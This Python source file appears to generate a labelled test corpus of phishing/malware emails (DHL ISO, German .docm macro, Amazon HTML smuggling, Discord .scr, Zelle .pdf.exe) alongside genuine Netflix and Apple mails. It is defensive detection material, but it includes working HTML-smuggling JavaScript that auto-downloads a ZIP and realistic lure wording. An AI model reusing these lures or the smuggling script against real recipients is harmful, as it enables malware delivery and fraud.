    plain = ("Dear Customer,\n\nYour parcel is ready for delivery.\n\n"
             "Please find the shipping documents (AWB 7738201944) attached and confirm your delivery details "
             "so that the courier can complete the delivery.\n\nKind regards,\nDHL Express Customer Service\n")
    html = ('<html><body><div style="font-family:Arial,sans-serif;font-size:13px;">'
            '<div style="background:#ffcc00;padding:10px 14px;font-weight:bold;font-style:italic;color:#d40511;font-size:20px;">DHL</div>'
            '<p>Dear Customer,</p><p>Your parcel is ready for delivery.</p>'
            '<p>Please find the shipping documents (AWB 7738201944) attached and confirm your delivery details so that the courier can complete the delivery.</p>'
            '<p>Kind regards,<br>DHL Express Customer Service</p></div></body></html>\n')
    hops = [rcv(f"from WIN-QF0T2M7K5RA (unknown [45.88.91.103])\n\tby mail.{dom} (Postfix) with ESMTPA id {alnum(stem + 'q', 10, '0123456789ABCDEF')}\n\tfor <{rcpt}>", sent)]
    headers = f"""From: DHL Express <express@{dom}>
To: {rcpt}
Subject: DHL Shipment Notification: AWB 7738201944 - documents attached
Date: {rfc(sent)}
Message-ID: <{hexs(stem + 'mid', 20)}@WIN-QF0T2M7K5RA>
MIME-Version: 1.0
X-Mailer: Microsoft Outlook 16.0"""
    body = Multi("mixed", bnd(stem, "std", 1), [
        alt(plain, html, bnd(stem, "std", 2)),
        attachment("application/x-iso9660-image", "DHL_AWB_7738201944.iso", iso),
    ])
    emit(stem, "malware",
         "DHL 'shipping documents attached' with an ISO disk image holding a shortcut that runs rundll32 on a bundled DLL (inert PE stub), the classic ISO/LNK loader chain; sent from a look-alike domain with SPF pass.",
         Inbound("outlook", rcpt, sent + timedelta(seconds=2), "45.88.91.103", f"mail.{dom}", f"express@{dom}",
                 dkim=[], dmarc="", hfrom=dom, country="NL"),
         hops, headers, body)


def m47_nebenkosten_docm() -> None:
    stem = "b50-phish-nebenkosten-docm"
    rcpt = "tobias.reinhardt.bln@gmail.com"
    dom = "hv-lindner-pohl.de"
    sender = f"verwaltung@{dom}"
    sent = utc(2024, 1, 23, 9, 5, 38)
    doc = files.docx(["Hausverwaltung Lindner & Pohl GbR", "Nebenkostenabrechnung 2023 - Wohneinheit 14",
                      "Dieses Dokument ist geschützt. Bitte klicken Sie oben auf 'Bearbeitung aktivieren' und anschließend auf "
                      "'Inhalt aktivieren', um die Abrechnung anzuzeigen."],
                     "Nebenkostenabrechnung 2023", "HV Lindner", macro=MACRO)
    plain = ("Sehr geehrter Herr Reinhardt,\n\n"
             "anbei erhalten Sie die Nebenkostenabrechnung für das Jahr 2023 für Ihre Wohnung (WE 14).\n"
             "Es ergibt sich eine Nachzahlung, die bis zum 15.02.2024 auf das bekannte Konto zu überweisen ist.\n\n"
             "Bei Fragen stehen wir Ihnen gern zur Verfügung.\n\n"
             "Mit freundlichen Grüßen\nMonika Pohl\nHausverwaltung Lindner & Pohl GbR\n")
    hops = [rcv(f"from ip5f5a{hexs(stem + 'ip', 4)}.dynamic.kabel-deutschland.de ([95.90.{digits(stem + 'ip3', 2)}.{digits(stem + 'ip4', 2)}] helo=[192.168.0.17]); authenticated\n\tby wp123.webpack.hosteurope.de running ExIM with esmtpsa (TLS1.3:ECDHE_RSA_AES_256_GCM_SHA384:256)\n\tid 1rSBq8-0001Xa-Bc", sent, BERLIN),
            "X-HE-SMSGID: 1rSBq8-0001Xa-Bc"]
    headers = f"""Message-ID: <{guid(stem + 'mid')}@{dom}>
Date: {rfc(sent, BERLIN)}
MIME-Version: 1.0
User-Agent: Mozilla Thunderbird
Content-Language: de-DE
To: Tobias Reinhardt <{rcpt}>
From: Hausverwaltung Lindner & Pohl <{sender}>
Subject: Nebenkostenabrechnung 2023 - WE 14
X-bounce-key: webpack.hosteurope.de;{sender};{ts(sent)};{hexs(stem + 'bk', 8)};"""
    body = Multi("mixed", f"------------{alnum(stem + 'tb', 24)}", [
        text(plain, "plain", "8bit"),
        attachment("application/vnd.ms-word.document.macroEnabled.12", "Nebenkostenabrechnung_2023_WE14.docm", doc),
    ])
    emit(stem, "malware",
         "'Nebenkostenabrechnung 2023' from the hijacked Host Europe mailbox of a property manager, addressing the tenant by name, with a macro-enabled Word document whose AutoOpen macro builds a PowerShell download command.",
         Inbound("gmail", rcpt, sent + timedelta(seconds=2), "80.237.132.123", "wp123.webpack.hosteurope.de", sender,
                 dkim=[], dmarc="", hfrom=dom),
         hops, headers, body)


def m48_amazon_html_smuggling() -> None:
    stem = "b50-phish-amazon-receipt-smuggling"
    rcpt = "lindsay.okoro@yahoo.com"
    dom = "amzn-receipts.net"
    sent = utc(2025, 7, 8, 13, 29, 51)
    payload = files.zip_archive([("Amazon_Invoice_114-4920117.exe", files.pe_stub())])
    blob = base64.b64encode(payload).decode()
    smuggler = f"""<!DOCTYPE html><html><head><meta charset="utf-8"><title>Amazon.com - Order 114-4920117-3391805</title></head>
<body style="font-family:Arial,sans-serif;text-align:center;padding-top:80px;color:#0f1111;">
<p style="font-size:22px;font-weight:bold;">amazon</p>
<p>Preparing your invoice download&hellip;</p>
<p style="font-size:12px;color:#565959;">If the download does not start, <a href="#" id="r">click here</a>.</p>
<script>
var d="{blob}";
function b(s){{var r=atob(s),n=r.length,u=new Uint8Array(n);while(n--){{u[n]=r.charCodeAt(n)}}return new Blob([u],{{type:"application/zip"}})}}
function g(){{var a=document.createElement("a");a.href=URL.createObjectURL(b(d));a.download="Amazon_Invoice_114-4920117.zip";document.body.appendChild(a);a.click()}}
document.getElementById("r").onclick=function(e){{e.preventDefault();g()}};setTimeout(g,600);
</script></body></html>
"""
    plain = ("Hello,\n\nThank you for shopping with us. Your receipt for order #114-4920117-3391805 is attached.\n"
             "Open the attached file to view your order details and download your invoice.\n\nAmazon.com\n")
    html = f"""<html><body style="font-family:Arial,sans-serif;font-size:14px;color:#0f1111;">
<table width="600" cellpadding="0" cellspacing="0"><tr><td style="padding:14px 0;font-size:22px;font-weight:bold;border-bottom:1px solid #dddddd;">amazon</td></tr>
<tr><td style="padding:18px 0;line-height:21px;">Hello,<br><br>Thank you for shopping with us. Your receipt for order <b>#114-4920117-3391805</b> is attached.<br>Open the attached file to view your order details and download your invoice.</td></tr>
<tr><td style="font-size:11px;color:#565959;">&copy; 2025 Amazon.com, Inc. or its affiliates.</td></tr></table></body></html>
"""
    hops = [
        dkim(stem, dom, "default", sent, h="From:To:Subject:Date:Message-ID:MIME-Version:Content-Type"),
        rcv(f"from [127.0.0.1] (localhost [127.0.0.1])\n\tby mail.{dom} (Postfix) with ESMTPSA id {alnum(stem + 'q', 10, '0123456789ABCDEF')}\n\tfor <{rcpt}>", sent),
    ]
    headers = f"""From: "Amazon.com" <order-update@{dom}>
To: {rcpt}
Subject: Your Amazon.com order #114-4920117-3391805 receipt
Date: {rfc(sent)}
Message-ID: <{hexs(stem + 'mid', 24)}@{dom}>
MIME-Version: 1.0"""
    body = Multi("mixed", bnd(stem, "std", 1), [
        alt(plain, html, bnd(stem, "std", 2)),
        attachment("text/html", "Amazon_Receipt_114-4920117.html", smuggler.encode()),
    ])
    emit(stem, "malware",
         "Amazon order 'receipt attached' whose HTML attachment smuggles a base64 ZIP with an executable (inert PE stub) and saves it through a JavaScript Blob download as soon as it opens; sent from a look-alike domain with SPF/DKIM pass.",
         Inbound("yahoo", rcpt, sent + timedelta(seconds=2), "194.26.192.64", f"mail.{dom}", f"order-update@{dom}",
                 dkim=[(dom, "default", "pass")], dmarc="", hfrom=dom),
         hops, headers, body)


def m49_photos_scr_discord() -> None:
    stem = "b50-phish-photos-scr-discordcdn"
    rcpt = "kirsten.mayfield77@gmail.com"
    sender = "carol.bennett58@yahoo.com"
    sent = utc(2024, 10, 3, 21, 40, 12)
    hops, mid, refs = yahoo_sent(stem, sent, sender)
    link = (f"https://cdn.discordapp.com/attachments/1291137402519015474/1291461820374319174/Photos_Sat_Oct.scr"
            f"?ex=670039a2&is=66fee822&hm={hexs(stem + 'hm', 64)}&")
    plain = (f"Hi Kirsten,\n\nhere are the pictures from Saturday! Had to put them together, they were too big for email.\n\n{link}\n\n"
             "Let me know which ones you want printed :)\n\nCarol\n\nSent from Yahoo Mail for iPhone\n")
    html = ('<html><head></head><body><div class="ydp-wrap" style="font-family:Helvetica Neue, Helvetica, Arial, sans-serif;font-size:16px;">'
            '<div dir="ltr" data-setdir="false">Hi Kirsten,</div><div dir="ltr" data-setdir="false"><br></div>'
            '<div dir="ltr" data-setdir="false">here are the pictures from Saturday! Had to put them together, they were too big for email.</div>'
            f'<div dir="ltr" data-setdir="false"><br></div><div dir="ltr" data-setdir="false"><a href="{link.replace("&", "&amp;")}" rel="nofollow" target="_blank">{link.replace("&", "&amp;")}</a></div>'
            '<div dir="ltr" data-setdir="false"><br></div><div dir="ltr" data-setdir="false">Let me know which ones you want printed :)</div>'
            '<div dir="ltr" data-setdir="false"><br></div><div dir="ltr" data-setdir="false">Carol</div><div><br></div>'
            '<div id="ymail_android_signature"><a href="https://overview.mail.yahoo.com/?.src=iOS">Sent from Yahoo Mail for iPhone</a></div></div></body></html>\n')
    headers = f"""Date: {rfc(sent)}
From: Carol Bennett <{sender}>
To: Kirsten Mayfield <{rcpt}>
Message-ID: {mid}
Subject: pics from saturday
MIME-Version: 1.0
References: {refs}
X-Mailer: WebService/1.1.22645 YMailNorrin"""
    emit(stem, "malware",
         "Friendly 'here are the pictures from Saturday' from a hijacked Yahoo account of an acquaintance (all checks pass) linking to a Windows screensaver executable (.scr) on the Discord CDN.",
         Inbound("gmail", rcpt, sent + timedelta(seconds=1), "74.6.128.84", "sonic313-21.consmr.mail.bf2.yahoo.com", sender,
                 dkim=[("yahoo.com", "s2048", "pass")], dmarc="pass", policy="REJECT", hfrom="yahoo.com"),
         hops, headers, alt(plain, html, bnd(stem, "yahoo")))


def m50_zelle_pdf_exe_zip() -> None:
    stem = "b50-phish-zelle-remittance-exe"
    rcpt = "sharonlee1961@aol.com"
    dom = "zellepay-notice.com"
    sent = utc(2026, 4, 7, 14, 55, 9)
    archive = files.zip_archive([("Zelle_Remittance_0407.pdf.exe", files.pe_stub())])
    plain = ("You received $1,250.00\n\nA payment of $1,250.00 has been sent to you with Zelle.\n"
             "The remittance advice is attached. Please open it to confirm and accept the payment within 24 hours.\n\n"
             "Zelle Payments\n")
    html = ('<html><body><table width="560" cellpadding="0" cellspacing="0" style="font-family:Arial,sans-serif;font-size:14px;color:#222222;">'
            '<tr><td style="background:#6d1ed4;color:#ffffff;padding:14px 18px;font-size:22px;font-weight:bold;">Zelle</td></tr>'
            '<tr><td style="padding:18px;font-size:20px;font-weight:bold;">You received $1,250.00</td></tr>'
            '<tr><td style="padding:0 18px 18px 18px;line-height:21px;">A payment of $1,250.00 has been sent to you with Zelle. The remittance advice is attached. '
            'Please open it to confirm and accept the payment within 24 hours.</td></tr>'
            '<tr><td style="padding:0 18px 18px 18px;">Zelle Payments</td></tr></table></body></html>\n')
    hops = [
        dkim(stem, dom, "default", sent, h="From:To:Subject:Date:Message-ID:MIME-Version:Content-Type"),
        rcv(f"from localhost (localhost [127.0.0.1])\n\tby mail.{dom} (Postfix) with ESMTPSA id {alnum(stem + 'q', 10, '0123456789ABCDEF')}\n\tfor <{rcpt}>", sent),
    ]
    headers = f"""From: Zelle Payments <payments@{dom}>
To: {rcpt}
Subject: You received $1,250.00 - remittance advice attached
Date: {rfc(sent)}
Message-ID: <{hexs(stem + 'mid', 24)}@{dom}>
MIME-Version: 1.0"""
    body = Multi("mixed", bnd(stem, "std", 1), [
        alt(plain, html, bnd(stem, "std", 2)),
        attachment("application/x-zip-compressed", "Zelle_Remittance_0407.zip", archive),
    ])
    emit(stem, "malware",
         "Zelle 'you received $1,250.00, remittance attached' from a look-alike domain with a ZIP holding a double-extension 'Zelle_Remittance_0407.pdf.exe' (inert PE stub).",
         Inbound("aol", rcpt, sent + timedelta(seconds=2), "91.92.241.18", f"mail.{dom}", f"payments@{dom}",
                 dkim=[(dom, "default", "pass")], dmarc="", hfrom=dom, spam=True),
         hops, headers, body)


# --------------------------------------------------------------------------
# legitimate look-alikes
# --------------------------------------------------------------------------

def sfmc(stem: str, sub: str) -> tuple:
    """Salesforce Marketing Cloud click / open helpers for a sender subdomain."""
    def click(n: int) -> str:
        return f"https://click.{sub}/?qs={hexs(stem + 'qs' + str(n), 128)}"
    opener = f"https://click.{sub}/open.aspx?ffcb10-{hexs(stem + 'open', 16)}-{hexs(stem + 'open2', 16)}-{hexs(stem + 'open3', 16)}-{hexs(stem + 'open4', 16)}-{hexs(stem + 'open5', 16)}-{hexs(stem + 'open6', 8)}"
    return click, opener


def sfmc_headers(stem: str, sub: str, job: str) -> str:
    return (f"x-job: {job}\nX-SFMC-Stack: {digits(stem + 'stack', 1) or '7'}\n"
            f"List-Unsubscribe: <https://click.{sub}/subscription_center.aspx?jwt={b64url(stem + 'jwt', 90)}>, "
            f"<mailto:leave-{hexs(stem + 'leave', 40)}@leave.{sub}>\nList-Unsubscribe-Post: List-Unsubscribe=One-Click")


def l01_netflix_new_device() -> None:
    stem = "b50-legit-netflix-new-device"
    rcpt = "kirsten.mayfield77@gmail.com"
    sent = utc(2025, 3, 2, 1, 44, 10)
    g = hexs(stem + "g", 36).upper()
    link = lambda path, lk: f"https://www.netflix.com/{path}?g={g}&lkid={lk}&lnktrk=EVO"
    plain = ("A new device is using your account\n\nHi Kirsten,\n\n"
             f"A new device signed in to your Netflix account, {rcpt}.\n\n"
             "Device: Samsung Smart TV\nLocation: Columbus, Ohio, United States\n"
             "Time: March 1, 8:44 PM EST\n\n"
             "If this was you or someone in your household:\nEnjoy watching!\n\n"
             "If it was someone else:\nPlease remember that we only allow the people in your household to use your account.\n"
             f"Sign out of that device: {link('ManageDevices', 'URL_MANAGE_DEVICES')}\n"
             f"Change your password: {link('password', 'URL_PASSWORD')}\n\n"
             "We're here to help if you need it. Visit the Help Center for more info or contact us.\n\n"
             "–The Netflix team\n\n"
             f"This message was mailed to [{rcpt}] by Netflix as part of your Netflix membership.\n"
             "SRC: 47819_en_US\nNetflix Services UK Limited\n")
    html = f"""<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">
<html xmlns="http://www.w3.org/1999/xhtml" lang="en"><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><meta name="viewport" content="width=device-width, initial-scale=1.0"><title></title></head>
<body style="margin:0;padding:0;background-color:#ffffff;" bgcolor="#ffffff">
<table width="100%" border="0" cellpadding="0" cellspacing="0" align="center"><tr><td align="center">
<table width="500" border="0" cellpadding="0" cellspacing="0" class="container" style="width:500px;background-color:#ffffff;">
<tr><td style="padding:30px 40px 0 40px;" align="left"><a href="{link('browse', 'URL_LOGO')}"><img src="https://assets.nflxext.com/us/email/gem/nflx.png" width="24" height="44" alt="Netflix" border="0" style="display:block;"></a></td></tr>
<tr><td style="font-family:NetflixSans-Bold,Helvetica,Roboto,Segoe UI,sans-serif;font-size:36px;line-height:43px;font-weight:700;color:#221f1f;padding:20px 40px 0 40px;">A new device is using your account</td></tr>
<tr><td style="font-family:NetflixSans-Regular,Helvetica,Roboto,Segoe UI,sans-serif;font-size:16px;line-height:21px;color:#221f1f;padding:20px 40px 0 40px;">Hi Kirsten,<br><br>A new device signed in to your Netflix account, {rcpt}.</td></tr>
<tr><td style="padding:20px 40px 0 40px;"><table width="100%" cellpadding="0" cellspacing="0" border="0" style="background:#f2f2f2;border-radius:4px;"><tr><td style="font-family:Helvetica,Roboto,sans-serif;font-size:14px;line-height:21px;color:#221f1f;padding:16px;">
<b>Device</b><br>Samsung Smart TV<br><br><b>Location</b><br>Columbus, Ohio, United States<br><span style="font-size:11px;color:#6d6d6e;">This location may not be accurate.</span><br><br><b>Time</b><br>March 1, 8:44 PM EST</td></tr></table></td></tr>
<tr><td style="font-family:Helvetica,Roboto,sans-serif;font-size:16px;line-height:21px;color:#221f1f;padding:20px 40px 0 40px;"><b>If this was you or someone in your household:</b><br>Enjoy watching!</td></tr>
<tr><td style="font-family:Helvetica,Roboto,sans-serif;font-size:16px;line-height:21px;color:#221f1f;padding:20px 40px 0 40px;"><b>If it was someone else:</b><br>Please remember that we only allow the people in your household to use your account. We recommend that you <a href="{link('ManageDevices', 'URL_MANAGE_DEVICES')}" style="color:#221f1f;">sign out of that device</a> and <a href="{link('password', 'URL_PASSWORD')}" style="color:#221f1f;">change your password</a>.</td></tr>
<tr><td style="font-family:Helvetica,Roboto,sans-serif;font-size:16px;line-height:21px;color:#221f1f;padding:20px 40px 0 40px;">We're here to help if you need it. Visit the <a href="{link('help', 'URL_HELP')}" style="color:#221f1f;">Help Center</a> for more info or <a href="{link('contactus', 'URL_CONTACT')}" style="color:#221f1f;">contact us</a>.</td></tr>
<tr><td style="font-family:Helvetica,Roboto,sans-serif;font-size:16px;color:#221f1f;padding:20px 40px 30px 40px;">&ndash;The Netflix team</td></tr>
<tr><td style="padding:0 40px;"><table width="100%" cellpadding="0" cellspacing="0" border="0"><tr><td style="border-top:2px solid #221f1f;font-size:0;line-height:0;">&nbsp;</td></tr></table></td></tr>
<tr><td style="font-family:Helvetica,Roboto,sans-serif;font-size:11px;line-height:14px;color:#a9a6a6;padding:20px 40px 30px 40px;">Questions? Call <a href="tel:1-866-579-7172" style="color:#a9a6a6;">1-866-579-7172</a><br><br><a href="{link('help', 'URL_FOOTER_HELP')}" style="color:#a9a6a6;">Help Center</a> &nbsp; <a href="{link('termsofuse', 'URL_TERMS')}" style="color:#a9a6a6;">Terms of Use</a> &nbsp; <a href="{link('privacy', 'URL_PRIVACY')}" style="color:#a9a6a6;">Privacy</a><br><br>This message was mailed to [{rcpt}] by Netflix as part of your Netflix membership.<br>SRC: 47819_en_US</td></tr>
</table></td></tr></table>
<img src="https://beaconimages.netflix.net/img/{b64url(stem + 'beacon', 60)}" width="1" height="1" border="0" alt="" style="display:block;">
</body></html>
"""
    hops = [
        dkim(stem, "account.netflix.com", "s2024", sent, h="Date:From:Reply-To:To:Message-ID:Subject:MIME-Version:Content-Type"),
        rcv(f"from msg-producer-{hexs(stem + 'pod', 8)} (ip-100-66-{digits(stem + 'i3', 2)}-{digits(stem + 'i4', 2)}.us-west-2.compute.internal [100.66.{digits(stem + 'i3', 2)}.{digits(stem + 'i4', 2)}])\n\tby mta-out-{digits(stem + 'mta', 2)}.account.netflix.com (Postfix) with ESMTP id {alnum(stem + 'q', 10, '0123456789ABCDEF')}\n\tfor <{rcpt}>", sent),
    ]
    headers = f"""Date: {rfc(sent)}
From: Netflix <info@account.netflix.com>
Reply-To: Netflix <info@account.netflix.com>
To: {rcpt}
Message-ID: <{digits(stem + 'mid', 8)}.{digits(stem + 'mid2', 7)}.{ts(sent) * 1000}@member-messaging.netflix.com>
Subject: A new device is using your account
MIME-Version: 1.0
X-Netflix-Message-Name: NEW_DEVICE_SIGNIN"""
    emit(stem, "clean",
         "Genuine Netflix 'a new device is using your account' notice from account.netflix.com (SPF/DKIM/DMARC pass) with netflix.com links and a beacon pixel: the real counterpart of the Netflix phishing.",
         Inbound("gmail", rcpt, sent + timedelta(seconds=1), "198.38.104.21", f"mta-out-{digits(stem + 'mta', 2)}.account.netflix.com", f"bounces@account.netflix.com",
                 dkim=[("account.netflix.com", "s2024", "pass")], dmarc="pass", policy="REJECT", hfrom="account.netflix.com"),
         hops, headers, alt(plain, html, bnd(stem, "sfmc")))


def l02_netflix_newsletter() -> None:
    stem = "b50-legit-netflix-new-arrivals"
    rcpt = "jordan.whitfield1987@outlook.com"
    sent = utc(2024, 9, 6, 17, 2, 44)
    g = hexs(stem + "g", 36).upper()
    t = lambda tid, lk: f"https://www.netflix.com/title/{tid}?s=a&trkid={digits(stem + 'trk', 8)}&g={g}&lkid={lk}&lnktrk=EMP"
    titles = [("81705696", "Worst Ex Ever"), ("81415347", "Rebel Ridge"), ("81644318", "The Perfect Couple"), ("81455697", "Emily in Paris: Season 4")]
    cards = "".join(
        f'<td width="50%" valign="top" style="padding:8px;"><a href="{t(tid, "URL_TITLE_" + str(i))}"><img src="https://occ-0-{digits(stem + str(i), 4)}-{digits(stem + str(i) + "b", 4)}.1.nflxso.net/dnm/api/v6/{alnum(stem + "art" + str(i), 40, ALNUM + "_-")}.jpg" width="200" alt="{name}" style="display:block;border:0;border-radius:4px;"></a>'
        f'<div style="font-family:Helvetica,Arial,sans-serif;font-size:14px;color:#ffffff;padding-top:6px;">{name}</div></td>'
        + ("</tr><tr>" if i == 1 else "")
        for i, (tid, name) in enumerate(titles))
    plain = "New on Netflix\n\n" + "\n".join(f"{name}: {t(tid, 'URL_TITLE_' + str(i))}" for i, (tid, name) in enumerate(titles)) + \
        f"\n\nThis message was mailed to [{rcpt}] by Netflix as part of your Netflix membership. Unsubscribe: https://www.netflix.com/unsubscribe?g={g}\n"
    html = f"""<!DOCTYPE html><html lang="en"><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><meta name="viewport" content="width=device-width, initial-scale=1.0"></head>
<body style="margin:0;padding:0;background:#000000;">
<table width="100%" border="0" cellpadding="0" cellspacing="0" bgcolor="#000000"><tr><td align="center">
<table width="480" border="0" cellpadding="0" cellspacing="0">
<tr><td style="padding:24px 20px 8px 20px;"><img src="https://assets.nflxext.com/us/email/gem/nflx_logo_red.png" width="94" alt="Netflix" style="display:block;"></td></tr>
<tr><td style="font-family:Helvetica,Arial,sans-serif;font-size:28px;font-weight:bold;color:#ffffff;padding:12px 20px;">New this week on Netflix</td></tr>
<tr><td><table width="100%" cellpadding="0" cellspacing="0" border="0"><tr>{cards}</tr></table></td></tr>
<tr><td align="center" style="padding:24px 20px;"><a href="https://www.netflix.com/browse?g={g}&lkid=URL_BROWSE&lnktrk=EMP" style="background:#e50914;color:#ffffff;font-family:Helvetica,Arial,sans-serif;font-size:15px;font-weight:bold;padding:12px 30px;border-radius:4px;text-decoration:none;">Watch Now</a></td></tr>
<tr><td style="font-family:Helvetica,Arial,sans-serif;font-size:11px;line-height:15px;color:#8c8c8c;padding:20px;">This message was mailed to [{rcpt}] by Netflix as part of your Netflix membership.<br><a href="https://www.netflix.com/EmailPreferences?g={g}&lkid=URL_EMAIL_PREFS" style="color:#8c8c8c;">Email preferences</a> &middot; <a href="https://www.netflix.com/unsubscribe?g={g}&lkid=URL_UNSUB" style="color:#8c8c8c;">Unsubscribe</a> &middot; <a href="https://help.netflix.com/?g={g}&lkid=URL_HELP" style="color:#8c8c8c;">Help Center</a><br>SRC: 46010_en_US<br>Netflix Services UK Limited</td></tr>
</table></td></tr></table>
<img src="https://beaconimages.netflix.net/img/{b64url(stem + 'beacon', 60)}" width="1" height="1" border="0" alt="">
</body></html>
"""
    hops = [
        dkim(stem, "members.netflix.com", "s2024", sent, h="Date:From:Reply-To:To:Message-ID:Subject:MIME-Version:Content-Type:List-Unsubscribe:List-Unsubscribe-Post"),
        rcv(f"from msg-producer-{hexs(stem + 'pod', 8)} (ip-100-66-{digits(stem + 'i3', 2)}-{digits(stem + 'i4', 2)}.us-west-2.compute.internal [100.66.{digits(stem + 'i3', 2)}.{digits(stem + 'i4', 2)}])\n\tby mta-out-{digits(stem + 'mta', 2)}.members.netflix.com (Postfix) with ESMTP id {alnum(stem + 'q', 10, '0123456789ABCDEF')}\n\tfor <{rcpt}>", sent),
    ]
    headers = f"""Date: {rfc(sent)}
From: Netflix <info@members.netflix.com>
Reply-To: Netflix <info@members.netflix.com>
To: {rcpt}
Message-ID: <{digits(stem + 'mid', 8)}.{digits(stem + 'mid2', 7)}.{ts(sent) * 1000}@member-messaging.netflix.com>
Subject: New this week: Rebel Ridge, The Perfect Couple and more
MIME-Version: 1.0
List-Unsubscribe: <https://www.netflix.com/unsubscribe?g={g}&lkid=URL_LIST_UNSUB>
List-Unsubscribe-Post: List-Unsubscribe=One-Click"""
    emit(stem, "bulk",
         "Genuine Netflix 'new this week' promotional newsletter from members.netflix.com with tracked netflix.com title links, nflxso.net artwork and one-click unsubscribe.",
         Inbound("outlook", rcpt, sent + timedelta(seconds=2), "198.38.104.37", f"mta-out-{digits(stem + 'mta', 2)}.members.netflix.com", "bounces@members.netflix.com",
                 dkim=[("members.netflix.com", "s2024", "pass")], dmarc="pass", policy="REJECT", hfrom="members.netflix.com", bcl=4),
         hops, headers, alt(plain, html, bnd(stem, "sfmc")))


def _apple_hops(stem: str, sent: datetime, rcpt: str) -> list[str]:
    return [
        dkim(stem, "email.apple.com", "email0517", sent, h="Date:From:To:Message-ID:Subject:MIME-Version:Content-Type", c="relaxed/simple"),
        rcv(f"from rn2-txn-msbadger{digits(stem + 'bad', 5)}.apple.com ([17.111.{digits(stem + 'a3', 3)}.{digits(stem + 'a4', 2)}])\n\tby rn2-txn-mstx{digits(stem + 'tx', 5)}.apple.com (Oracle Communications Messaging Server 8.1.0.22.20230322 64bit (built Mar 22 2023))\n\twith ESMTP id <0S{alnum(stem + 'ora', 18, UPPERNUM)}@rn2-txn-mstx{digits(stem + 'tx', 5)}.apple.com> for {rcpt}", sent),
    ]


def l03_apple_receipt() -> None:
    stem = "b50-legit-apple-receipt"
    rcpt = "g.sandoval_tx@hotmail.com"
    sent = utc(2025, 5, 20, 9, 31, 2)
    order = "MT" + alnum(stem + "order", 8, UPPERNUM)
    doc = digits(stem + "doc", 12)
    plain = ("Apple\n\nReceipt\n\n"
             f"APPLE ACCOUNT\n{rcpt}\n\nBILLED TO\nVisa .... 2206\nGabriel Sandoval\n4417 Brookhollow Dr\nAustin, TX 78745\nUSA\n\n"
             f"DATE\nMay 20, 2025\n\nORDER ID\n{order}\n\nDOCUMENT NO.\n{doc}\n\n"
             "App Store\niCloud+ with 200 GB (Monthly)\nRenews Jun 20, 2025\nReport a Problem\n$2.99\n\n"
             "Subtotal $2.99\nTax $0.25\nTOTAL $3.24\n\n"
             "Learn how to manage your password preferences for iTunes, Apple Books, and App Store purchases at https://support.apple.com/HT204030.\n\n"
             "Apple Account | Terms of Sale | Privacy Policy\nCopyright © 2025 Apple Inc. All rights reserved\n")
    html = f"""<!DOCTYPE html><html lang="en"><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><meta name="viewport" content="width=device-width, initial-scale=1"><title>Your receipt from Apple.</title></head>
<body style="margin:0;padding:0;background:#ffffff;font-family:-apple-system,'SF Pro Text','Helvetica Neue',Helvetica,Arial,sans-serif;">
<table align="center" width="640" cellpadding="0" cellspacing="0" border="0" style="color:#333333;">
<tr><td style="padding:40px 20px 0 20px;"><table width="100%" cellpadding="0" cellspacing="0"><tr><td><img src="https://s.mzstatic.com/email/images_shared/logo_apple_d-2x.png" width="42" height="42" alt="Apple" style="display:block;"></td><td align="right" style="font-size:32px;color:#888888;font-weight:300;">Receipt</td></tr></table></td></tr>
<tr><td style="padding:30px 20px 0 20px;"><table width="100%" cellpadding="8" cellspacing="0" style="background:#f5f5f7;border-radius:6px;font-size:10px;color:#666666;">
<tr><td width="33%">APPLE ACCOUNT<br><span style="font-size:12px;color:#333333;">{rcpt}</span></td><td width="33%">DATE<br><span style="font-size:12px;color:#333333;">May 20, 2025</span></td><td rowspan="3" valign="top">BILLED TO<br><span style="font-size:12px;color:#333333;">Visa .... 2206<br>Gabriel Sandoval<br>4417 Brookhollow Dr<br>Austin, TX 78745<br>USA</span></td></tr>
<tr><td>ORDER ID<br><span style="font-size:12px;color:#0070c9;"><a href="https://reportaproblem.apple.com/?s=6&amp;p={order}" style="color:#0070c9;text-decoration:none;">{order}</a></span></td><td>DOCUMENT NO.<br><span style="font-size:12px;color:#333333;">{doc}</span></td></tr></table></td></tr>
<tr><td style="padding:20px 20px 0 20px;font-size:14px;font-weight:600;background:#fafafa;">App Store</td></tr>
<tr><td style="padding:10px 20px;"><table width="100%" cellpadding="0" cellspacing="0" style="font-size:12px;"><tr>
<td width="64"><img src="https://s.mzstatic.com/email/images_shared/icloud_plus_2x.png" width="42" height="42" alt="" style="border-radius:9px;"></td>
<td><b>iCloud+ with 200 GB</b><br><span style="color:#666666;">iCloud+ (Monthly)<br>Renews Jun 20, 2025</span><br><a href="https://reportaproblem.apple.com/?s=6&amp;p={order}" style="color:#0070c9;text-decoration:none;">Report a Problem</a></td>
<td align="right" valign="top" style="font-weight:600;">$2.99</td></tr></table></td></tr>
<tr><td style="padding:10px 20px;border-top:1px solid #eeeeee;"><table width="100%" style="font-size:12px;"><tr><td align="right" style="color:#666666;">Subtotal</td><td align="right" width="80">$2.99</td></tr><tr><td align="right" style="color:#666666;">Tax</td><td align="right">$0.25</td></tr>
<tr><td align="right" style="font-size:10px;color:#666666;border-top:1px solid #eeeeee;padding-top:8px;">TOTAL</td><td align="right" style="font-weight:600;border-top:1px solid #eeeeee;padding-top:8px;">$3.24</td></tr></table></td></tr>
<tr><td style="padding:30px 20px;font-size:11px;color:#888888;line-height:15px;">Learn how to <a href="https://support.apple.com/HT204030" style="color:#0070c9;">manage your password preferences</a> for iTunes, Apple Books, and App Store purchases.<br><br>
<a href="https://appleid.apple.com/" style="color:#0070c9;">Apple Account</a> &bull; <a href="https://www.apple.com/legal/internet-services/itunes/us/terms.html" style="color:#0070c9;">Terms of Sale</a> &bull; <a href="https://www.apple.com/legal/privacy/" style="color:#0070c9;">Privacy Policy</a><br>Copyright &copy; 2025 Apple Inc. <a href="https://www.apple.com/legal/" style="color:#0070c9;">All rights reserved</a></td></tr>
</table></body></html>
"""
    headers = f"""Date: {rfc(sent)}
From: Apple <no_reply@email.apple.com>
To: {rcpt}
Message-ID: <{digits(stem + 'mid', 10)}.{digits(stem + 'mid2', 7)}.{ts(sent) * 1000}@email.apple.com>
Subject: Your receipt from Apple.
MIME-Version: 1.0
X-Email-Type-Id: 4e9f2a1d-receipt
x-apple-mmp-meta: mmpPlatformVersion=2.4.1;x-ins=6
X-Priority: 3"""
